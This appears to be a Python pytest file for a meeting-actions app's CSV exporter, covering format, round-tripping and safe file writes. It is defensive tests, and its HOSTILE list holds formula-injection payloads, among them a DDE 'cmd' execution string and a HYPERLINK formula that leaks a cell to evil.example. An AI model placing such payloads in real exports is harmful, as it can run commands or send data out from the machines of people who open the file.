"""The CSV of actions: Excel-friendly, safe against formula injection, text round-trips."""

from __future__ import annotations

import csv
import io
import os
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from alignmeet.domain.enums import ActionStatus, TeamTag
from alignmeet.domain.records import ActionRecord, ActionRow
from alignmeet.export import ExportError
from alignmeet.export.csv_export import HEADER, csv_bytes, csv_cell, write_csv

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def action_row(
    action_id: int = 1,
    title: str = "Send the webinar list to SDRs",
    *,
    owner: str = "Priya Raman",
    team: str = "Sales",
    due: date | None = date(2026, 12, 1),
    status: ActionStatus = ActionStatus.IN_PROGRESS,
    tag: TeamTag = TeamTag.JOINT,
    milestone: str = "Lead feedback loop live",
    meeting: str = "Sales & Marketing sync — September 2026",
    series: str = "Monthly Sales & Marketing sync",
    slipped: int = 2,
    note: str = "Waiting for legal.",
) -> ActionRow:
    return ActionRow(
        action=ActionRecord(
            id=action_id,
            meeting_id=1,
            meeting_title=meeting,
            meeting_date=date(2026, 9, 29),
            owner_id=1,
            owner_name=owner,
            title=title,
            due=due,
            team_tag=tag,
            status=status,
            milestone=milestone,
            position=1,
        ),
        series_id=1,
        series_name=series,
        owner_team=team,
        times_slipped=slipped,
        last_note=note,
    )


def read_back(data: bytes) -> list[list[str]]:
    """What a careful reader gets: BOM-aware UTF-8, newline='' so quoted breaks survive."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def neutral(text: str) -> str:
    """The documented rule, written independently of the module."""
    return "'" + text if text[:1] in DANGEROUS and text else text


# --------------------------------------------------------------------------- format


def test_bom_header_and_one_row_per_action() -> None:
    data = csv_bytes([action_row(1), action_row(2, due=None, status=ActionStatus.DONE)])
    assert data.startswith(b"\xef\xbb\xbfid,action,owner,")
    table = read_back(data)
    assert (
        table[0]
        == list(HEADER)
        == [
            "id",
            "action",
            "owner",
            "owner team",
            "team tag",
            "status",
            "due",
            "meeting",
            "meeting date",
            "series",
            "milestone",
            "times slipped",
            "last note",
            "number",
        ]
    )
    assert table[1] == [
        "1",
        "Send the webinar list to SDRs",
        "Priya Raman",
        "Sales",
        "Joint",
        "In progress",
        "2026-12-01",
        "Sales & Marketing sync — September 2026",
        "2026-09-29",
        "Monthly Sales & Marketing sync",
        "Lead feedback loop live",
        "2",
        "Waiting for legal.",
        "A-1",
    ]
    assert table[2][5:7] == ["Done", ""]
    assert len(table) == 3


def test_rows_end_with_crlf_and_excel_dialect() -> None:
    data = csv_bytes([action_row()])
    assert data.count(b"\r\n") == 2
    assert data.endswith(b"\r\n")


def test_no_rows_is_just_the_header() -> None:
    assert read_back(csv_bytes([])) == [list(HEADER)]


# --------------------------------------------------------------------------- formula injection

HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2\n=3",
    "-",
    "@",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_cells_are_neutralised_in_every_text_column(text: str) -> None:
    row = action_row(
        title=text, owner=text, team=text, milestone=text, meeting=text, series=text, note=text
    )
    (cells,) = read_back(csv_bytes([row]))[1:]
    text_columns = [1, 2, 3, 7, 9, 10, 12]
    for index in text_columns:
        assert cells[index] == "'" + text, HEADER[index]
    for cell in cells:
        assert not cell.startswith(DANGEROUS)


@pytest.mark.parametrize(
    "text", ["a=1", " =1", "Sales & Marketing", "'quoted'", "1+1", "e-mail", "\n=1"]
)
def test_harmless_cells_are_left_alone(text: str) -> None:
    assert csv_cell(text) == text
    (cells,) = read_back(csv_bytes([action_row(title=text)]))[1:]
    assert cells[1] == text


def test_newlines_commas_and_quotes_stay_inside_their_cell() -> None:
    note = 'line one\nline two, with "quotes"\r\nline three'
    (cells,) = read_back(csv_bytes([action_row(note=note)]))[1:]
    assert cells[12] == note
    assert len(cells) == len(HEADER)


def test_lone_surrogates_are_dropped_not_a_crash() -> None:
    (cells,) = read_back(csv_bytes([action_row(title="a\ud800b")]))[1:]
    assert cells[1] == "ab"


# --------------------------------------------------------------------------- any text


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    title=st.text(),
    owner=st.text(max_size=30),
    milestone=st.text(max_size=30),
    note=st.text(),
    meeting=st.text(max_size=30),
)
def test_any_text_round_trips_but_for_the_neutralising_quote(
    title, owner, milestone, note, meeting
) -> None:
    row = action_row(title=title, owner=owner, milestone=milestone, note=note, meeting=meeting)
    table = read_back(csv_bytes([row, action_row(2)]))
    assert len(table) == 3  # nothing a cell holds can split or merge rows
    cells = table[1]
    assert cells[1] == neutral(title)
    assert cells[2] == neutral(owner)
    assert cells[7] == neutral(meeting)
    assert cells[10] == neutral(milestone)
    assert cells[12] == neutral(note)
    assert table[2][0] == "2"


# --------------------------------------------------------------------------- files


def test_write_csv_writes_and_returns_the_path(tmp_path: Path) -> None:
    path = tmp_path / "actions.csv"
    assert write_csv([action_row()], path) == path
    with path.open(encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle))[0] == "id"


def test_failed_write_keeps_the_old_file(tmp_path: Path, monkeypatch) -> None:
    path = tmp_path / "actions.csv"
    path.write_bytes(b"old,file\r\n")

    def busy(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", busy)
    with pytest.raises(ExportError) as caught:
        write_csv([action_row()], path)
    assert str(path) in str(caught.value)
    assert path.read_bytes() == b"old,file\r\n"
    assert [p.name for p in tmp_path.iterdir()] == ["actions.csv"]


def test_a_folder_as_target_is_an_export_error(tmp_path: Path) -> None:
    with pytest.raises(ExportError, match="is a folder"):
        write_csv([action_row()], tmp_path)
